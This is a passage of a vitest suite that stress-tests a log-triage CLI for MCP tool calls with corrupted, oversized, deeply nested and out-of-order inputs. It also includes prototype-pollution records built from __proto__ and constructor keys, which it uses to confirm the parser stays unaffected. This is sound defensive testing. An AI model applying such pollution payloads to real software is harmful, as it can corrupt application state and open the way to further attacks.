// The broken-input corpus, end to end through the built CLI: each damaged or hostile input, generated in a temp dir,
// with the exact message (file:line on stderr), the exact line account in the JSON summary, and the exit code.
import { spawn, spawnSync } from 'node:child_process';
import { createWriteStream, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const ROOT = resolve(import.meta.dirname, '../..');
const BIN = join(ROOT, 'dist/bin.cjs');
let dir: string;
/** Preloaded into the child: writes its own peak RSS (KB) to $RSS_FILE when it exits. */
let rssHook: string;

beforeAll(() => {
  if (!existsSync(BIN)) spawnSync('npx', ['tsc', '-p', '.'], { cwd: ROOT, stdio: 'ignore' });
  dir = mkdtempSync(join(tmpdir(), 'mcp-triage-corpus-'));
  rssHook = join(dir, 'rss-hook.mjs');
  writeFileSync(rssHook, "import { writeFileSync } from 'node:fs';\nprocess.on('exit', () => { if (process.env.RSS_FILE) writeFileSync(process.env.RSS_FILE, String(process.resourceUsage().maxRSS)); });\n");
}, 120_000);

afterAll(() => {
  // KEEP_CORPUS=1 keeps the generated inputs for a look by hand.
  if (dir && !process.env.KEEP_CORPUS) rmSync(dir, { recursive: true, force: true });
});

interface CliResult {
  code: number | null;
  signal: NodeJS.Signals | null;
  stdout: string;
  stderr: string;
  /** Peak resident set size of the child, in MB. */
  peakRssMb: number;
}

/** Run the CLI on files of the temp dir; stdout is kept only up to keepStdout characters (plus its last line). */
function cli(args: string[], opts: { stdin?: Buffer | string; timeoutMs?: number; keepStdout?: number; env?: Record<string, string> } = {}): Promise<CliResult> {
  const rssFile = join(dir, `rss-${Math.random().toString(36).slice(2)}`);
  return new Promise((resolvePromise, reject) => {
    const child = spawn(process.execPath, ['--import', rssHook, BIN, ...args], {
      cwd: dir, env: { ...process.env, RSS_FILE: rssFile, NO_COLOR: '1', FORCE_COLOR: '0', ...opts.env }, stdio: ['pipe', 'pipe', 'pipe'],
    });
    const keep = opts.keepStdout ?? 50_000_000;
    let stdout = '';
    let tail = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (d: string) => {
      if (stdout.length < keep) stdout += d;
      tail = (tail + d).slice(-1_000_000);
    });
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    const timer = setTimeout(() => child.kill('SIGKILL'), opts.timeoutMs ?? 60_000);
    child.on('error', reject);
    child.on('close', (code, signal) => {
      clearTimeout(timer);
      const rss = existsSync(rssFile) ? Number(readFileSync(rssFile, 'utf8')) / 1024 : NaN;
      if (stdout.length >= keep) stdout = tail.slice(tail.lastIndexOf('\n', tail.length - 2) + 1);
      resolvePromise({ code, signal, stdout, stderr, peakRssMb: rss });
    });
    child.stdin.on('error', () => undefined);
    child.stdin.end(opts.stdin ?? '');
  });
}

interface InputAccount { name: string; lines: number; used: number; blank: number; skipped: number; unusable: number; reasons: Record<string, number>; brokenAt?: string; unordered?: boolean }
interface Summary {
  redaction: boolean;
  attempts: number;
  byOutcome: Record<string, number>;
  lines: { read: number; used: number; blank: number; skipped: number; unusable: number };
  inputs: InputAccount[];
  diagnostics: { total: number; byCode: Record<string, number>; first: { file: string; line?: number; code: string; message: string }[] };
  notes: string[];
}
interface JsonDoc { version: 1; attempts: Record<string, unknown>[]; findings: unknown[]; summary: Summary }

function jsonDoc(r: CliResult): JsonDoc {
  try {
    return JSON.parse(r.stdout) as JsonDoc;
  } catch {
    throw new Error(`stdout is not one JSON document (exit ${r.code}, stderr: ${r.stderr.slice(0, 500)}): ${r.stdout.slice(0, 300)}`);
  }
}

function ndjsonLines(r: CliResult): Record<string, unknown>[] {
  return r.stdout.split('\n').filter((l) => l.trim()).map((l) => JSON.parse(l) as Record<string, unknown>);
}

/** The exact account: every line read is used, skipped, unusable or blank, per input and in total. */
function expectAccounted(s: Summary): void {
  for (const a of s.inputs) expect(a.lines, `account of ${a.name}`).toBe(a.used + a.skipped + a.unusable + a.blank);
  expect(s.lines.read).toBe(s.lines.used + s.lines.skipped + s.lines.unusable + s.lines.blank);
  expect(s.lines.read).toBe(s.inputs.reduce((n, a) => n + a.lines, 0));
}

/** No stack trace, no internal error, on stderr. */
function expectNoCrash(r: CliResult): void {
  expect(r.stderr).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
  expect(r.stderr).not.toMatch(/internal error|RangeError|TypeError|Maximum call stack/);
  expect(r.signal).toBeNull();
}

function write(name: string, content: string | Buffer): string {
  writeFileSync(join(dir, name), content);
  return name;
}

/** Write a large file line by line without holding it whole. */
async function writeLines(name: string, count: number, line: (i: number) => string): Promise<string> {
  const ws = createWriteStream(join(dir, name));
  let buf: string[] = [];
  for (let i = 0; i < count; i++) {
    buf.push(line(i));
    if (buf.length === 10_000) {
      if (!ws.write(`${buf.join('\n')}\n`)) await new Promise((r) => ws.once('drain', r));
      buf = [];
    }
  }
  if (buf.length) ws.write(`${buf.join('\n')}\n`);
  await new Promise<void>((r, j) => ws.end((e?: Error | null) => (e ? j(e) : r())));
  return name;
}

// ------------------------------------------------------------------ realistic records

const T0 = Date.UTC(2026, 11, 2, 9, 0, 0);
const iso = (ms: number) => new Date(ms).toISOString();

interface ExchangeOpts {
  t: number;
  session?: string;
  id?: number | string;
  tool?: string;
  status?: number | null;
  recv?: unknown;
  side?: 'client' | 'server';
  headers?: Record<string, string>;
  url?: string;
}

function toolCall(id: number | string, tool: string, args: Record<string, unknown> = { city: 'Lisbon' }) {
  return { jsonrpc: '2.0', id, method: 'tools/call', params: { name: tool, arguments: args } };
}

function exchange(o: ExchangeOpts): string {
  const id = o.id ?? 1;
  return JSON.stringify({
    v: 1, kind: 'exchange', ts: iso(o.t), ...(o.side ? { side: o.side } : {}), session: o.session ?? 'sess-a', method: 'POST',
    url: o.url ?? 'https://mcp.example.com/mcp',
    requestHeaders: { 'content-type': 'application/json', accept: 'application/json, text/event-stream', ...(o.headers ?? {}) },
    send: toolCall(id, o.tool ?? 'get_weather'),
    status: o.status === undefined ? 200 : o.status,
    responseHeaders: { 'content-type': 'application/json' },
    ...(o.status === null ? { error: 'ECONNRESET' } : { recv: o.recv ?? { jsonrpc: '2.0', id, result: { content: [{ type: 'text', text: 'Sunny, 21 C' }], isError: false } } }),
  });
}

const GOOD = (i: number) => exchange({ t: T0 + i * 1000, session: `sess-${i % 3}`, id: i + 1 });

// ------------------------------------------------------------------ broken containers and bytes

describe('damaged gzip', () => {
  it('a truncated gzip keeps every line before the break and says where it broke', async () => {
    const lines = Array.from({ length: 2000 }, (_, i) => GOOD(i)).join('\n') + '\n';
    const gz = gzipSync(lines);
    write('cut.ndjson.gz', gz.subarray(0, Math.floor(gz.length * 0.6)));
    const r = await cli(['cut.ndjson.gz', '--format', 'json']);
    expect(r.code).toBe(0);
    expectNoCrash(r);
    const s = jsonDoc(r).summary;
    expectAccounted(s);
    const a = s.inputs[0]!;
    expect(a.lines).toBeGreaterThan(500);
    expect(a.lines).toBeLessThan(2000);
    expect(a.used).toBe(a.lines);
    expect(a.brokenAt).toBeDefined();
    expect(r.stderr).toMatch(new RegExp(`cut\\.ndjson\\.gz:${a.lines + 1}: gzip data ends early`));
    expect(s.diagnostics.byCode['gzip-truncated']).toBe(1);
  });

  it('a truncated gzip with --strict exits 2 with the location', async () => {
    const r = await cli(['cut.ndjson.gz', '--strict', '--format', 'json']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/cut\.ndjson\.gz:\d+: gzip data ends early.*\(--strict\)/);
    expectNoCrash(r);
  });

  it('gzip with trailing garbage: every line of the complete member is analyzed, then the garbage is reported', async () => {
    const lines = Array.from({ length: 50 }, (_, i) => GOOD(i)).join('\n') + '\n';
    write('tail.ndjson.gz', Buffer.concat([gzipSync(lines), Buffer.from('this is not gzip\n')]));
    const r = await cli(['tail.ndjson.gz', '--format', 'json']);
    expect(r.code).toBe(0);
    expectNoCrash(r);
    const s = jsonDoc(r).summary;
    expectAccounted(s);
    expect(s.inputs[0]!.lines).toBe(50);
    expect(s.inputs[0]!.used).toBe(50);
    expect(s.attempts).toBe(50);
    expect(r.stderr).toMatch(/tail\.ndjson\.gz:51: gzip data is damaged/);
  });
});

describe('bad bytes', () => {
  it('invalid UTF-8 and NUL bytes make their lines unusable, located and counted; the rest is analyzed', async () => {
    const parts = [
      Buffer.from(`${GOOD(0)}\n`),
      Buffer.concat([Buffer.from('{"v":1,"kind":"message","direction":"c2s","message":{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"w'), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from('"}}}\n')]),
      Buffer.from('\u0000\u0000\u0000\u0000\n'),
      Buffer.from(`${GOOD(1).replace('"Sunny, 21 C"', '"Sunny\u0000"')}\n`), // raw NUL inside a JSON string: invalid JSON
      Buffer.from(`${GOOD(2).replace('"Sunny, 21 C"', '"Sunny\\u0000"')}\n`), // escaped NUL: valid JSON, usable
    ];
    write('bytes.ndjson', Buffer.concat(parts));
    const r = await cli(['bytes.ndjson', '--format', 'json']);
    expect(r.code).toBe(0);
    expectNoCrash(r);
    const s = jsonDoc(r).summary;
    expectAccounted(s);
    expect(s.inputs[0]).toMatchObject({ lines: 5, used: 2, unusable: 3, blank: 0 });
    expect(s.inputs[0]!.reasons).toEqual({ 'invalid-utf8': 1, 'nul-bytes': 1, 'invalid-json': 1 });
    expect(r.stderr).toMatch(/bytes\.ndjson:2: line is not valid UTF-8/);
    expect(r.stderr).toMatch(/bytes\.ndjson:3: .*NUL/);
    expect(r.stderr).toMatch(/bytes\.ndjson:4: invalid JSON/);
    expect(r.stderr).not.toContain('\u0000');
  });

  it('a pretty-printed JSON file (Gemini CLI\'s local telemetry file) is unusable line by line, and its lone "{" says why', async () => {
    write('pretty.json', `${JSON.stringify({ name: 'tool_call', attributes: { 'gen_ai.tool.name': 'mcp_web_lookup' } }, null, 2)}\n${JSON.stringify({ hrTime: [1, 2] }, null, 2)}\n`);
    const r = await cli(['pretty.json', '--format', 'json']);
    expect(r.code).toBe(0);
    const s = jsonDoc(r).summary;
    expectAccounted(s);
    expect(s.inputs[0]).toMatchObject({ used: 0, unusable: s.inputs[0]!.lines });
    expect(r.stderr).toMatch(/pretty\.json:1: invalid JSON: a lone "\{" \(pretty-printed JSON spreads one value over many lines/);
  });

  it('with --strict the first unusable line exits 2 with file:line', async () => {
    const r = await cli(['bytes.ndjson', '--strict', '--format', 'json']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^mcp-triage: bytes\.ndjson:2: line is not valid UTF-8 \(--strict\)$/m);
    expectNoCrash(r);
  });

  it('CRLF, a BOM, blank lines and wrong types are each accounted exactly', async () => {
    const lines = [
      `\ufeff${GOOD(0)}`,
      '',
      '   ',
      GOOD(1),
      '\t',
      JSON.stringify({ v: 1, kind: 'exchange', ts: iso(T0), method: 'POST', status: '200', send: toolCall(9, 'x') }), // status as string
      JSON.stringify({ v: 1, kind: 'message', direction: 'sideways', message: { jsonrpc: '2.0', id: 1, method: 'ping' } }), // bad direction
      JSON.stringify({ v: 1, kind: 'exchange', method: 5, status: 200 }), // method as number
      '[1,2,3]',
      '"just a string"',
      'null',
      GOOD(2),
    ];
    write('crlf.ndjson', lines.join('\r\n') + '\r\n');
    const r = await cli(['crlf.ndjson', '--format', 'json']);
    expect(r.code).toBe(0);
    expectNoCrash(r);
    const s = jsonDoc(r).summary;
    expectAccounted(s);
    expect(s.inputs[0]).toMatchObject({ lines: 12, used: 3, blank: 3, unusable: 6 });
    expect(s.attempts).toBe(3);
    for (const n of [6, 7, 8, 9, 10, 11]) expect(r.stderr).toMatch(new RegExp(`crlf\\.ndjson:${n}: `));
  });
});

describe('huge and deep inputs', () => {
  it('a 100 MB single line is reported by size and skipped without being held; the lines around it are used', async () => {
    const ws = createWriteStream(join(dir, 'long.ndjson'));
    ws.write(`${GOOD(0)}\n{"v":1,"kind":"message","direction":"c2s","message":{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"x":"`);
    const block = 'x'.repeat(1 << 20);
    for (let i = 0; i < 100; i++) if (!ws.write(block)) await new Promise((r) => ws.once('drain', r));
    ws.write(`"}}}\n${GOOD(1)}\n`);
    await new Promise((r) => ws.end(r));
    const r = await cli(['long.ndjson', '--format', 'json'], { timeoutMs: 120_000 });
    expect(r.code).toBe(0);
    expectNoCrash(r);
    const s = jsonDoc(r).summary;
    expectAccounted(s);
    expect(s.inputs[0]).toMatchObject({ lines: 3, used: 2, unusable: 1, blank: 0 });
    const bytes = 100 * (1 << 20) + '{"v":1,"kind":"message","direction":"c2s","message":{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"x":"'.length + 4;
    expect(r.stderr).toMatch(new RegExp(`long\\.ndjson:2: line of ${bytes} bytes is over the \\d+-byte limit`));
    expect(r.peakRssMb).toBeLessThan(250);
  }, 180_000);

  it('JSON nested 100,000 levels deep becomes a diagnostic or a record, never a crash', async () => {
    const depth = 100_000;
    const deepArray = '['.repeat(depth) + ']'.repeat(depth);
    const deepInRecord = `{"v":1,"kind":"message","ts":"${iso(T0)}","direction":"c2s","message":{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"deep","arguments":${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}}}`;
    const deepResult = `{"v":1,"kind":"message","ts":"${iso(T0 + 5)}","direction":"s2c","message":{"jsonrpc":"2.0","id":7,"error":{"code":-32603,"message":"deep","data":${'['.repeat(depth)}${']'.repeat(depth)}}}}`;
    write('deep.ndjson', [deepArray, deepInRecord, deepResult, GOOD(0)].join('\n') + '\n');
    for (const format of ['json', 'ndjson', 'table', 'markdown']) {
      const r = await cli(['deep.ndjson', '--format', format], { timeoutMs: 60_000 });
      expect(r.code, `${format}: ${r.stderr}`).toBe(0);
      expectNoCrash(r);
      if (format === 'json') {
        const s = jsonDoc(r).summary;
        expectAccounted(s);
        expect(s.inputs[0]!.lines).toBe(4);
        expect(s.inputs[0]!.unusable).toBe(1); // the bare array is not a record
        expect(r.stderr).toMatch(/deep\.ndjson:1: /);
      }
    }
  }, 120_000);

  it('an SSE body with 1 million events: one attempt, answered, in bounded memory and time', async () => {
    const events: string[] = [];
    for (let i = 0; i < 1_000_000; i++) {
      events.push(i % 1000 === 0 ? `data: {"jsonrpc":"2.0","method":"notifications/progress","params":{"progressToken":"p","progress":${i}}}\n\n` : `event: ping\ndata: ${i}\n\n`);
    }
    events.push('data: {"jsonrpc":"2.0","id":1,"result":{"content":[{"type":"text","text":"done"}],"isError":false}}\n\n');
    const line = JSON.stringify({
      v: 1, kind: 'exchange', ts: iso(T0), session: 'sess-sse', method: 'POST', send: toolCall(1, 'long_job'), status: 200,
      responseHeaders: { 'content-type': 'text/event-stream' }, recvText: events.join(''),
    });
    write('sse-million.ndjson', `${line}\n`);
    const r = await cli(['sse-million.ndjson', '--format', 'ndjson'], { timeoutMs: 120_000 });
    expect(r.code).toBe(0);
    expectNoCrash(r);
    const out = ndjsonLines(r);
    const summary = out.find((l) => l.type === 'summary') as unknown as Summary;
    expectAccounted(summary);
    expect(summary.lines).toEqual({ read: 1, used: 1, blank: 0, skipped: 0, unusable: 0 });
    const attempts = out.filter((l) => l.type === 'attempt');
    expect(attempts).toHaveLength(1);
    expect(attempts[0]).toMatchObject({ id: 1, tool: 'long_job', outcome: 'TOOL_SUCCESS' });
    expect((attempts[0]!.sse as { events: number }).events).toBe(1_000_001);
    expect(r.peakRssMb).toBeLessThan(400);
  }, 180_000);

  it('1 million SSE events written one record each (split capture): one attempt, every line used, bounded memory', async () => {
    const head = [
      JSON.stringify({ v: 1, kind: 'request', xid: 'x1', ts: T0, session: 's-split', method: 'POST', send: toolCall(1, 'long_job') }),
      JSON.stringify({ v: 1, kind: 'response', xid: 'x1', ts: T0 + 1, status: 200, responseHeaders: { 'content-type': 'text/event-stream' } }),
    ];
    const tail = [
      JSON.stringify({ v: 1, kind: 'event', xid: 'x1', ts: T0 + 1_000_002, data: JSON.stringify({ jsonrpc: '2.0', id: 1, result: { content: [], isError: false } }) }),
      JSON.stringify({ v: 1, kind: 'end', xid: 'x1', ts: T0 + 1_000_003, end: 'complete' }),
    ];
    const total = 1_000_004;
    await writeLines('sse-split.ndjson', total, (i) => {
      if (i < 2) return head[i]!;
      if (i >= total - 2) return tail[i - (total - 2)]!;
      return `{"v":1,"kind":"event","xid":"x1","ts":${T0 + i},"event":"ping","data":"${i}"}`;
    });
    const r = await cli(['sse-split.ndjson', '--format', 'ndjson'], { timeoutMs: 120_000 });
    expect(r.code).toBe(0);
    expectNoCrash(r);
    const out = ndjsonLines(r);
    const summary = out.find((l) => l.type === 'summary') as unknown as Summary;
    expect(summary.lines).toEqual({ read: total, used: total, blank: 0, skipped: 0, unusable: 0 });
    const attempts = out.filter((l) => l.type === 'attempt');
    expect(attempts).toHaveLength(1);
    expect(attempts[0]).toMatchObject({ id: 1, tool: 'long_job', outcome: 'TOOL_SUCCESS' });
    expect(r.peakRssMb).toBeLessThan(400);
    rmSync(join(dir, 'sse-split.ndjson'));
  }, 180_000);

  it('1 million sessions with one request each: memory stays bounded and every line is accounted', async () => {
    // A new session every 20 ms of log time (50 a second, 5.5 hours of log): idle sessions must be released.
    await writeLines('million-sessions.ndjson', 1_000_000, (i) =>
      `{"v":1,"kind":"exchange","ts":${T0 + i * 20},"session":"s${i}","method":"POST","send":{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"ping"}},"status":200,"recv":{"jsonrpc":"2.0","id":1,"result":{"content":[],"isError":${i % 100_000 === 0}}}}`);
    const r = await cli(['million-sessions.ndjson', '--format', 'ndjson', '--outcome', 'TOOL_ERROR'], { timeoutMs: 270_000, keepStdout: 1_000_000 });
    expect(r.code).toBe(0);
    expectNoCrash(r);
    const out = ndjsonLines(r);
    const summary = out.find((l) => l.type === 'summary') as unknown as Summary;
    expectAccounted(summary);
    expect(summary.lines).toEqual({ read: 1_000_000, used: 1_000_000, blank: 0, skipped: 0, unusable: 0 });
    expect(out.filter((l) => l.type === 'attempt')).toHaveLength(10);
    expect(r.peakRssMb).toBeLessThan(400);
    rmSync(join(dir, 'million-sessions.ndjson'));
  }, 300_000); // a safety net, not a timing: the run takes close to two minutes while other work shares the two cores
});

// ------------------------------------------------------------------ JSON oddities

describe('JSON oddities', () => {
  it('ids beyond 2^53 are kept exact as their source text, and 2^53 and 2^53+1 stay two requests', async () => {
    const msg = (t: number, dir: 'c2s' | 's2c', body: string) => `{"v":1,"kind":"message","ts":"${iso(T0 + t)}","session":"big","direction":"${dir}","message":${body}}`;
    write('bigids.ndjson', [
      msg(0, 'c2s', '{"jsonrpc":"2.0","id":9007199254740993,"method":"tools/call","params":{"name":"a"}}'),
      msg(1, 'c2s', '{"jsonrpc":"2.0","id":9007199254740992,"method":"tools/call","params":{"name":"b"}}'),
      msg(2, 'c2s', '{"jsonrpc":"2.0","id":123456789012345678901234567890,"method":"tools/call","params":{"name":"c"}}'),
      msg(3, 's2c', '{"jsonrpc":"2.0","id":9007199254740993,"result":{"content":[],"isError":false}}'),
      msg(4, 's2c', '{"jsonrpc":"2.0","id":9007199254740992,"error":{"code":-32603,"message":"boom"}}'),
      msg(5, 's2c', '{"jsonrpc":"2.0","id":123456789012345678901234567890,"result":{"content":[],"isError":false}}'),
    ].join('\n'));
    const r = await cli(['bigids.ndjson', '--format', 'ndjson']);
    expect(r.code).toBe(0);
    expectNoCrash(r);
    const attemptLines = r.stdout.split('\n').filter((l) => l.startsWith('{"type":"attempt"'));
    expect(attemptLines).toHaveLength(3);
    const byTool = new Map(attemptLines.map((l) => [(JSON.parse(l) as { tool: string }).tool, l]));
    expect(byTool.get('a')).toContain('"id":9007199254740993,');
    expect(byTool.get('a')).toContain('"outcome":"TOOL_SUCCESS"');
    expect(byTool.get('b')).toContain('"id":9007199254740992,');
    expect(byTool.get('b')).toContain('"outcome":"JSONRPC_ERROR"');
    expect(byTool.get('c')).toContain('"id":123456789012345678901234567890,');
    expect(byTool.get('c')).toContain('"outcome":"TOOL_SUCCESS"');
  });

  it('duplicate keys: the last value wins, as in JSON.parse, and the line is used', async () => {
    write('dupes.ndjson', [
      `{"v":1,"kind":"message","ts":"${iso(T0)}","session":"d","direction":"c2s","message":{"jsonrpc":"2.0","id":1,"id":2,"method":"tools/list","method":"tools/call","params":{"name":"first","name":"second"}}}`,
      `{"v":1,"kind":"message","ts":"${iso(T0 + 1)}","session":"d","direction":"s2c","message":{"jsonrpc":"2.0","id":2,"result":{"isError":false,"isError":true,"content":[]}}}`,
    ].join('\n'));
    const r = await cli(['dupes.ndjson', '--format', 'ndjson']);
    expect(r.code).toBe(0);
    const [attempt] = ndjsonLines(r).filter((l) => l.type === 'attempt');
    expect(attempt).toMatchObject({ id: 2, method: 'tools/call', tool: 'second', outcome: 'TOOL_ERROR' });
  });

  const PROTO_LINES = () => [
    `{"__proto__":{"polluted":"top"},"constructor":{"prototype":{"polluted":"ctor"}},"v":1,"kind":"exchange","ts":"${iso(T0)}","session":"p","method":"POST",` +
      `"requestHeaders":{"__proto__":"x","constructor":"y","mcp-session-id":"p"},"send":{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"__proto__","arguments":{"__proto__":{"polluted":"args"}}}},` +
      `"status":200,"responseHeaders":{"__proto__":{"polluted":"hdr"}},"recv":{"jsonrpc":"2.0","id":1,"result":{"__proto__":{"isError":true},"content":[]}}}`,
    `{"jsonrpc":"2.0","id":"constructor","method":"tools/call","params":{"name":"constructor"},"session":"__proto__"}`,
    `{"jsonrpc":"2.0","id":"constructor","result":{"content":[],"isError":false},"session":"__proto__"}`,
    `{"outcome":"TOOL_SUCCESS","postCount":1,"jsonrpc":{"id":"__proto__"},"__proto__":{"polluted":"claim"}}`,
  ];

  it('__proto__ and constructor keys pollute nothing and are analyzed as plain data (CLI)', async () => {
    write('proto.ndjson', PROTO_LINES().join('\n'));
    const r = await cli(['proto.ndjson', '--format', 'json']);
    expect(r.code).toBe(0);
    expectNoCrash(r);
    const doc = jsonDoc(r);
    expectAccounted(doc.summary);
    expect(doc.summary.inputs[0]!.unusable).toBe(0);
    const tools = doc.attempts.map((a) => a.tool).sort();
    expect(tools).toEqual(['__proto__', 'constructor']);
    // `result.__proto__.isError` is an own key of result, not its isError.
    expect(doc.attempts.find((a) => a.tool === '__proto__')!.outcome).toBe('TOOL_SUCCESS');
  });

  it('__proto__ and constructor keys pollute nothing through the library API (in-process)', async () => {
    const lib = await import('../../src/index.js') as Record<string, unknown>;
    const analyze = lib.analyze as (o: unknown) => Promise<unknown>;
    expect(typeof analyze).toBe('function');
    write('proto-lib.ndjson', PROTO_LINES().join('\n'));
    const result = await analyze({ inputs: [{ path: join(dir, 'proto-lib.ndjson') }] });
    expect(result).toBeTruthy();
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect((Object.prototype as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype.hasOwnProperty.call(Object.prototype, 'isError')).toBe(false);
  });
});

// ------------------------------------------------------------------ time

describe('time', () => {
  it('timestamps that go backwards are reported once with their location, and calls are still joined', async () => {
    const lines = [
      exchange({ t: T0 + 600_000, id: 1 }),
      exchange({ t: T0 + 601_000, id: 2 }),
      exchange({ t: T0, id: 3 }), // ten minutes back
      exchange({ t: T0 + 1_000, id: 4, status: 500, recv: { jsonrpc: '2.0', id: 4, error: { code: -32603, message: 'x' } } }),
    ];
    write('backwards.ndjson', lines.join('\n'));
    const r = await cli(['backwards.ndjson', '--format', 'json']);
    expect(r.code).toBe(0);
    const doc = jsonDoc(r);
    expectAccounted(doc.summary);
    expect(doc.summary.attempts).toBe(4);
    expect(doc.summary.byOutcome).toEqual({ TOOL_SUCCESS: 3, HTTP_ERROR: 1 });
    expect(doc.summary.inputs[0]!.unordered).toBe(true);
    expect(doc.summary.diagnostics.byCode['not-time-ordered']).toBe(1);
    expect(r.stderr).toMatch(/^mcp-triage: backwards\.ndjson:3: timestamp goes back 601\.0 s/m); // behind the latest time seen (line 2)
  });

  it('absurd times and durations (1e22 as a time, 1e300 ms long) are no time rather than a crash, in every view', async () => {
    const ok = JSON.parse(exchange({ t: T0, id: 1 })) as Record<string, unknown>;
    const lines = [
      JSON.stringify({ v: 1, kind: 'message', ts: 1e22, direction: 'c2s', message: { jsonrpc: '2.0', id: 7, method: 'ping' } }),
      exchange({ t: T0 + 1_000, id: 2 }),
      JSON.stringify({ ...ok, ts: iso(T0 + 2_000), send: { jsonrpc: '2.0', id: 3, method: 'ping' }, recv: { jsonrpc: '2.0', id: 3, result: {} }, durationMs: 1e300 }),
      JSON.stringify({ startedDateTime: iso(T0 + 3_000), time: 1e300, request: { method: 'POST', url: 'https://mcp.example.com/mcp', headers: [], postData: { mimeType: 'application/json', text: '{"jsonrpc":"2.0","id":4,"method":"ping"}' } }, response: { status: 200, headers: [{ name: 'content-type', value: 'application/json' }], content: { mimeType: 'application/json', text: '{"jsonrpc":"2.0","id":4,"result":{}}' } } }),
    ];
    write('absurd.ndjson', lines.join('\n'));
    const r = await cli(['absurd.ndjson', '--format', 'json']);
    expect(r.code, r.stderr).toBe(0);
    const doc = jsonDoc(r);
    expectAccounted(doc.summary);
    expect(doc.summary.attempts).toBe(4);
    expect(r.stderr).not.toMatch(/internal error/);
    for (const view of [['sessions', 'absurd.ndjson'], ['timeline', 'sess-a', 'absurd.ndjson'], ['timeline', 'input#0', 'absurd.ndjson'], ['absurd.ndjson']]) {
      const v = await cli(view);
      expect(v.code, `${view.join(' ')}: ${v.stderr}`).toBe(0);
      expect(v.stderr).not.toMatch(/internal error/);
    }
  });

  /** 40 attempts seen by both sides; every fifth fails; the server's clock is offset by skewMs. */
  function skewedPair(name: string, skewMs: number): [string, string] {
    const client: string[] = [];
    const server: string[] = [];
    for (let i = 0; i < 40; i++) {
      const t = T0 + i * 20_000;
      const recv = i % 5 === 0 ? { jsonrpc: '2.0', id: i + 1, error: { code: -32000, message: 'backend down' } } : undefined;
      client.push(exchange({ t, id: i + 1, session: `s-${i % 4}`, side: 'client', recv }));
      server.push(exchange({ t: t + skewMs + 15, id: i + 1, session: `s-${i % 4}`, side: 'server', recv }));
    }
    return [write(`${name}-client.ndjson`, client.join('\n')), write(`${name}-server.ndjson`, server.join('\n'))];
  }

  function expectJoined(r: CliResult, name: string): void {
    expect(r.code).toBe(0);
    const attempts = ndjsonLines(r).filter((l) => l.type === 'attempt') as { sources: { file: string }[]; outcome: string; notSeenByServer?: true }[];
    expect(attempts).toHaveLength(40);
    for (const a of attempts) {
      expect(a.sources.map((s) => s.file).sort()).toEqual([`${name}-client.ndjson`, `${name}-server.ndjson`]);
      expect(a.notSeenByServer).toBeUndefined();
    }
    expect(attempts.filter((a) => a.outcome === 'JSONRPC_ERROR')).toHaveLength(8);
  }

  it('a server clock 90 s ahead of the client clock: every attempt joined with the default options', async () => {
    const [c, s] = skewedPair('skew90', 90_000);
    expectJoined(await cli(['--client', c, '--server', s, '--format', 'ndjson']), 'skew90');
  });

  it('a server clock 4 min 7 s behind: joined with --skew 300', async () => {
    const [c, s] = skewedPair('skew4m', -(4 * 60_000 + 7_000));
    expectJoined(await cli(['--client', c, '--server', s, '--format', 'ndjson', '--skew', '300']), 'skew4m');
  });

  it.each([['ahead', 1], ['behind', -1]] as const)('a server clock 4 min 7 s %s, default options: joined, and the report says by how much', async (word, sign) => {
    const [c, s] = skewedPair(`skew4${word}`, sign * (4 * 60_000 + 7_000));
    expectJoined(await cli(['--client', c, '--server', s, '--format', 'ndjson']), `skew4${word}`);
    const doc = jsonDoc(await cli(['--client', c, '--server', s, '--format', 'json']));
    expect(doc.summary.notes.join('\n')).toMatch(new RegExp(`skew4${word}-server\\.ndjson: clock 247\\.0 s ${word}`));
  });
});

// ------------------------------------------------------------------ process behaviour

describe('process behaviour', () => {
  it('writing into a closed pipe (| head -1) ends quietly with exit 0', async () => {
    await writeLines('many.ndjson', 20_000, (i) => GOOD(i));
    const r = spawnSync('bash', ['-c', `set -o pipefail; "${process.execPath}" "${BIN}" many.ndjson --format ndjson | head -1`], { cwd: dir, encoding: 'utf8', timeout: 60_000 });
    expect(r.status).toBe(0);
    expect(r.stdout.split('\n').filter(Boolean)).toHaveLength(1);
    expect(r.stderr).toBe('');
  }, 90_000);

  it('stdout closed early by the reader: exit 0, nothing on stderr', async () => {
    const child = spawn(process.execPath, [BIN, 'many.ndjson', '--format', 'ndjson'], { cwd: dir, stdio: ['ignore', 'pipe', 'pipe'] });
    let stderr = '';
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    await new Promise((r) => child.stdout.once('data', r));
    child.stdout.destroy();
    const [code, signal] = await new Promise<[number | null, NodeJS.Signals | null]>((r) => child.on('close', (c, s) => r([c, s])));
    expect(signal).toBeNull();
    expect(code).toBe(0);
    expect(stderr).toBe('');
  }, 90_000);

  it('SIGINT ends the run promptly without a stack trace', async () => {
    const child = spawn(process.execPath, [BIN, '-', '--format', 'ndjson'], { cwd: dir, stdio: ['pipe', 'pipe', 'pipe'] });
    let stderr = '';
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    child.stdout.resume();
    let i = 0;
    const feeder = setInterval(() => {
      const chunk: string[] = [];
      for (let k = 0; k < 200; k++) chunk.push(GOOD(i++));
      child.stdin.write(`${chunk.join('\n')}\n`);
    }, 10);
    child.stdin.on('error', () => undefined);
    await new Promise((r) => setTimeout(r, 800));
    const sent = Date.now();
    child.kill('SIGINT');
    const [code, signal] = await new Promise<[number | null, NodeJS.Signals | null]>((r) => child.on('close', (c, s) => r([c, s])));
    clearInterval(feeder);
    expect(Date.now() - sent).toBeLessThan(2_000);
    expect(code === 130 || signal === 'SIGINT').toBe(true);
